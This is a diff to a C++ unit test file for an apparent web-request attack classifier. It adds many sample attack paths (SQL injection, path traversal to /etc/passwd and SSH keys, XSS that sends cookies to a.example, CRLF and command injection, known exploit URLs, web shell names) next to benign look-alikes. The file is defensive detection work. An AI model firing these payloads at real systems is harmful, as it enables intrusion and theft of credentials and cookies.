@@ -350,7 +350,9 @@ TEST(AttackSignaturesTest, HonestTargets) {
       "/wp-json/wp/v2/posts?per_page=10&_embed",
       "/wp-includes/js/jquery/jquery.min.js?ver=3.7.1",
       "/wp-content/uploads/2024/01/backup-of-my-site-how-to.pdf",
-      "/xmlrpc.php",
+      "/xmlrpc.php?for=jetpack&token=abc&timestamp=1700000000&nonce=xyz",
+      "/wp-login.php?action=lostpassword",
+      "/wp-login.php?action=register",
       "/data/migrations/1548957970627_remove-db-version.sql",
       "/search?q=union+of+select+committees",
       "/search?q=european+union+select+committee+report",
@@ -429,6 +431,228 @@ TEST(AttackSignaturesTest, HonestTargets) {
       "*",
   };
   for (const std::string_view target : targets) {
+    EXPECT_FALSE(Target(target).Any()) << target << ": " << WhyTarget(target);
+  }
+}
+
+// Exploits: one request tells.
+TEST(AttackSignaturesTest, OneRequestIsEnough) {
+  const std::string_view targets[] = {
+      R"t(/GponForm/diag_Form?images/)t",
+      R"t(/wls-wsat/CoordinatorPortType)t",
+      R"t(/api/index.php/v1/config/application?public=true)t",
+      R"t(/api/index.php/v1/config/application?x=1&public%3dtrue)t",
+      R"t(/autodiscover/autodiscover.json?@foo.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@foo.example)t",
+      R"t(/Autodiscover/Autodiscover.json?a@foo.example/owa/)t",
+      R"t(/autodiscover/autodiscover.json%3fa@foo.example/owa/)t",
+      R"t(/cgi-bin/videoconfiguration.cgi)t",
+      R"t(/crx/packmgr/service.jsp)t",
+      R"t(/boafrm/formSysCmd)t",
+      R"t(/ctrlt/DeviceUpgrade_1)t",
+      R"t(/p?id=1+UNION+SELECT+1,concat(user(),0x3a,database()),3)t",
+      R"t(/p?id=-1%20UNION%20ALL%20SELECT%20NULL,NULL,CONCAT(0x7171,version())--)t",
+      R"t(/p?id=1+union+all+select+null,null,null,null--)t",
+      R"t(/p?id=1'+union+select+1,table_name+from+information_schema.tables--)t",
+      R"t(/modules.php?name=Search&categ=%20and%201=2%20UNION%20SELECT%200,0,aid,pwd,0,0%20from%20authors/*)t",
+      R"t(/p?id=-1+union+select+1,2,3,4--)t",
+      R"t(/p?id=0'XOR(if(now()=sysdate(),sleep(19.406),0))XOR'Z)t",
+      R"t(/?q=0%22XOR(if(now()=sysdate(),sleep(15),0))XOR%22Z)t",
+      R"t(/p?id=1';select+pg_sleep(5);--)t",
+      R"t(/p?id=1+AND+SLEEP(5))t",
+      R"t(/p?id=1'+AND+(SELECT+1+FROM+(SELECT(SLEEP(5)))a)--)t",
+      R"t(/p?id=1;WAITFOR+DELAY+'0:0:5'--)t",
+      R"t(/p?id=1;declare+@c+cursor;set+@c=cursor+for+select+1)t",
+      R"t(/p?id=1;DECLARE%20@S%20VARCHAR(4000);SET%20@S=CAST(0x44%20AS%20VARCHAR(4000));EXEC(@S);--)t",
+      R"t(/p?op=/etc/passwd%00)t",
+      R"t(/p?op=../../../etc/passwd%00.jpg)t",
+      R"t(/CFIDE/administrator/enter.cfm?locale=../../../lib/password.properties%00en)t",
+      R"t(/CFIDE/adminapi/administrator.cfc?x=../../)t",
+      R"t(/get?path_comp=.ssh/id_rsa)t",
+      R"t(/get?path_comp=/home/ann/.ssh/id_ed25519)t",
+      R"t(/vpn/../vpns/cfg/smb.conf)t",
+      R"t(/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession)t",
+      R"t(/console/images/%252e%252e%252fconsole.portal)t",
+      R"t(/console/images/%252E%252E%252Fwp.conf)t",
+      R"t(/@fs/etc/passwd)t",
+      R"t(/@fs/etc/passwd?raw??)t",
+      R"t(/etc/passwd%3f)t",
+      R"t(/html/etc/shadow%3F)t",
+      R"t(/x?q=<script>document.location='http://a.example/?c='+document.cookie</script>)t",
+      R"t(/x?q=%3Csvg%20onload%3Dfetch('//a.example/'%2Bdocument.cookie)%3E)t",
+      R"t(/x?q=%3Cimg%20src=x%20onerror=this.src='//a.example/?'%2Bdocument.cookie%3E)t",
+      R"t(/x%0d%0aSet-Cookie:%20a=b)t",
+      R"t(/x/%0d%0aSet-Cookie)t",
+      R"t(/x?u=a%0d%0aSet-Cookie:%20a=b)t",
+      R"t(/x?u=a%0aset-cookie%3a%20a=b)t",
+      R"t(/x%0D%0ALocation:%20//a.example)t",
+      R"t(/x?n=http://a.example/pizza.htm?)t",
+      R"t(/x?what=http://a.example/r57.txt?)t",
+      R"t(/x?what=http%3A%2F%2Fa.example%2Fid.gif%3F%3F&b=1)t",
+      R"t(/x?mosConfig_absolute_path=http://a.example/x)t",
+      R"t(/ping?ip=127.0.0.1%0aid)t",
+      R"t(/ping?ip=127.0.0.1%0Acat%20/etc/hosts)t",
+      R"t(/ping?ip=%0d%0awhoami&x=1)t",
+      R"t(/ping?ip=127.0.0.1;id)t",
+  };
+  for (const std::string_view target : targets) {
+    EXPECT_TRUE(Target(target).exploit) << target << ": " << WhyTarget(target);
+  }
+}
+
+// What the exploits are like but for the one thing that makes them such.
+TEST(AttackSignaturesTest, NotEnoughForAnExploit) {
+  const std::string_view targets[] = {
+      R"t(/search?q=how+does+union+select+null,null,null+work)t",
+      R"t(/search?q=1+union+select+1,2,3+from+users)t",
+      R"t(/api/v2/query?sql=SELECT+a,b+FROM+t+UNION+SELECT+c,d,e+FROM+u)t",
+      R"t(/search?q=windows+10+and+time.sleep(5))t",
+      R"t(/search?q="python"+and+sleep(5))t",
+      R"t(/search?q=pg_sleep(5))t",
+      R"t(/search?q=declare+@c+cursor;+open+@c)t",
+      R"t(/search?q=waitfor+delay+'0:0:5')t",
+      R"t(/search?q=document.cookie+location.href)t",
+      R"t(/search?q=Set-Cookie:+secure)t",
+      R"t(/note?body=Hello%0D%0ALocation:%20Berlin%0D%0AContent-Type:%20talk)t",
+      R"t(/note?body=my%0D%0Aid%20is%205)t",
+      R"t(/note?body=see%20you%0Als%20and%20cat)t",
+      R"t(/login?return=http://www.example.org/page.php?)t",
+      R"t(/login?return=http%3A%2F%2Fwww.example.org%2Fpage%3F)t",
+      R"t(/go?url=https://www.example.org/notes.txt)t",
+      R"t(/img?src=https://www.example.org/a.png?w=20)t",
+      R"t(/_next/image?url=https%3A%2F%2Fcdn.example.org%2Fa.png%3F&w=64)t",
+      R"t(/collect?page=http%3A%2F%2Fwww.example.org%2Findex.php%3F)t",
+      R"t(/wiki/What_is_/etc/passwd%3F)t",
+      R"t(/view?page=https://www.example.org/?)t",
+      R"t(/?page=http://www.example.org/index.html)t",
+      R"t(/autodiscover/autodiscover.json/v1.0/ann%40example.org?Protocol=ActiveSync)t",
+      R"t(/autodiscover/autodiscover.json?Email=ann%40example.org&Protocol=AutodiscoverV1)t",
+      R"t(/api/index.php/v1/config/application)t",
+      R"t(/keys?path=/home/ann/.ssh/id_rsa.pub)t",
+      R"t(/list?ids=1;2;3;id)t",
+      R"t(/list?cols=name|id|5|id)t",
+      R"t(/blog/etc/passwd)t",
+      R"t(/docs/../index.html)t",
+      R"t(/file/100%2525.txt)t",
+      R"t(/cars/alfa-romeo.php)t",
+      R"t(/cars/alfabeta.php)t",
+      R"t(/eggshell.php)t",
+      R"t(/nutshell.php)t",
+      R"t(/c99-standard.php)t",
+      R"t(/wsop-results.php)t",
+      R"t(/powershell.html)t",
+  };
+  for (const std::string_view target : targets) {
+    const AttackMatch match = Target(target);
+    EXPECT_FALSE(match.exploit || match.leaks) << target << ": " << WhyTarget(target);
+  }
+}
+
+// They count where the site has no WordPress, and accuse nobody where it has one.
+TEST(AttackSignaturesTest, FilesOfWordPressAreInterfaces) {
+  for (const std::string_view target :
+       {"/wp-login.php", "/wordpress/wp-login.php", "/xmlrpc.php", "//blog/xmlrpc.php?rsd",
+        "/wp-admin/setup-config.php?step=1", "/blog/wp-admin/install.php",
+        "//site/wp-includes/wlwmanifest.xml", "/wp-content/plugins/contact-form-7/readme.txt",
+        "/wp-content/themes/x/readme.txt"}) {
+    EXPECT_EQ(Target(target),
+              (AttackMatch{AttackFamilyBit(Family::kAdminInterface), false, false, false}))
+        << target << ": " << WhyTarget(target);
+  }
+}
+
+// PHP runs what ends in ".php"; a copy is shown.
+TEST(AttackSignaturesTest, OnlyCopiesOfPhpConfigurationsLeak) {
+  for (const std::string_view target :
+       {"/wp-config.php", "/blog/wp-config.php", "/wp-config-sample.php", "/wp-config.php?x=1",
+        "/sites/default/settings.php", "/app/etc/env.php", "/wp-config-backup.php"}) {
+    EXPECT_TRUE(Target(target).Has(Family::kSensitiveFile)) << target;
+    EXPECT_FALSE(Target(target).leaks) << target << ": " << WhyTarget(target);
+  }
+  for (const std::string_view target :
+       {"/wp-config.php~", "/wp-config.php.bak", "/wp-config.php.txt", "/wp-config.php.old",
+        "/wp-config.php.save", "/wp-config.php.swp", "/.wp-config.php.swp", "/wp-config.php.orig",
+        "/wp-config.php-backup", "/wp-config.bak", "/wp-config.txt", "/wp-config.php_old",
+        "/wp-config.old", "/wp-config.php1", "/sites/default/settings.php~", "/app/etc/env.php.bak",
+        "/wp-config.php.php.bak", "/wp-config.phps"}) {
+    EXPECT_TRUE(Target(target).leaks) << target << ": " << WhyTarget(target);
+  }
+  for (const std::string_view target :
+       {"/2020/05/wp-config-php-tips/", "/wp-config-explained", "/blog/wp-config-php.html"}) {
+    EXPECT_FALSE(Target(target).Any()) << target << ": " << WhyTarget(target);
+  }
+}
+
+TEST(AttackSignaturesTest, BackupsOfDatabasesLieAnywhere) {
+  for (const std::string_view target : {"/get/backup.sql.zip", "/a/b/backup.sql",
+                                        "/files/db_backup-20240101.sql.gz", "/x/backup_2024.sql"}) {
+    EXPECT_TRUE(Target(target).leaks) << target;
+  }
+  for (const std::string_view target :
+       {"/samples/database.sql", "/samples/backup-and-restore.sql", "/docs/backup.sql.html",
+        "/remote.php/dav/files/ann/x/backup.sql"}) {
+    EXPECT_FALSE(Target(target).Any()) << target << ": " << WhyTarget(target);
+  }
+}
+
+TEST(AttackSignaturesTest, GitOverHttpIsNoLeak) {
+  for (const std::string_view target :
+       {"/repo/.git/info/refs", "/repo/.git/info/refs?service=git-upload-pack",
+        "/repo/.git/git-upload-pack", "/x.git/info/refs?service=git-upload-pack", "/config.json",
+        "/settings.json", "/env.js", "/users.txt"}) {
+    EXPECT_FALSE(Target(target).Any()) << target << ": " << WhyTarget(target);
+  }
+  EXPECT_FALSE(Target("/.git/info/refs").leaks);
+  for (const std::string_view target :
+       {"/.git", "/.git/", "/.git/HEAD", "/.git/config", "/.git/index", "/x/.git/config",
+        "/.git/info/exclude", "/.git/logs/HEAD", "/.git/objects/info/packs", "/.git%00",
+        "/.git/refs/heads/main", "/.git;x/config"}) {
+    EXPECT_TRUE(Target(target).leaks) << target << ": " << WhyTarget(target);
+  }
+}
+
+TEST(AttackSignaturesTest, ShellsByFamilyOfNames) {
+  for (const std::string_view target : {"/c99.php",
+                                        "/c99shell.php",
+                                        "/r57.php",
+                                        "/wso2.8.5.php",
+                                        "/wso-4.2.5.php",
+                                        "/b374k.php",
+                                        "/b374k-2.8.php",
+                                        "/alfa.php",
+                                        "/alfanew.php",
+                                        "/alfa-rex.php",
+                                        "/alfashell.php",
+                                        "/uploads/weevely.php",
+                                        "/indoxploit.php",
+                                        "/xleet-shell.php",
+                                        "/cmd.jsp",
+                                        "/shell.aspx",
+                                        "/webshell.php",
+                                        "/web-shell.php",
+                                        "/up/s72_Shell.php",
+                                        "/Worse_Linux_Shell.php",
+                                        "/mini-shell.php",
+                                        "/backdoor.php",
+                                        "/simple-backdoor.php",
+                                        "/shell3.php",
+                                        "/wso.phtml",
+                                        "/images/c99.php%00.jpg",
+                                        "/ALFA_DATA/alfacgiapi/perl.alfa"}) {
+    EXPECT_TRUE(Target(target).Has(Family::kWebShell)) << target;
+    EXPECT_TRUE(Target(target).exploit && Target(target).leaks) << target;
+  }
+}
+
+TEST(AttackSignaturesTest, ScriptsWhereWordPressHasNone) {
+  for (const std::string_view target :
+       {"/wp-admin/css/colors/blue/index.php", "/wp-includes/fonts/a.php",
+        "/wp-content/plugins/hellopress/wp_filemanager.php", "/wp-conflg.php", "/xx.php"}) {
+    EXPECT_TRUE(Target(target).Has(Family::kWebShell)) << target;
+    EXPECT_FALSE(Target(target).exploit || Target(target).leaks) << target;
+  }
+  for (const std::string_view target :
+       {"/wp-admin/css/login.min.css", "/wp-includes/images/media/default.png",
+        "/wp-content/plugins/x/css/a.css", "/docs/readme.txt", "/readme.txt", "/CHANGELOG.md"}) {
     EXPECT_FALSE(Target(target).Any()) << target << ": " << WhyTarget(target);
   }
 }
@@ -543,7 +767,7 @@ TEST(AttackSignaturesTest, HonestTargetsOfApplications) {
       R"t(/docs/phpinfo)t",
       R"t(/manual/en/function.phpinfo.php)t",
       R"t(/man/etc/passwd.5.html)t",
-      R"t(/blog/etc/passwd)t",
+      R"t(/blog/etc/passwd/format)t",
       R"t(/reference/etc/group)t",
       R"t(/tutorial/test.php)t",
       R"t(/js/xss.min.js)t",
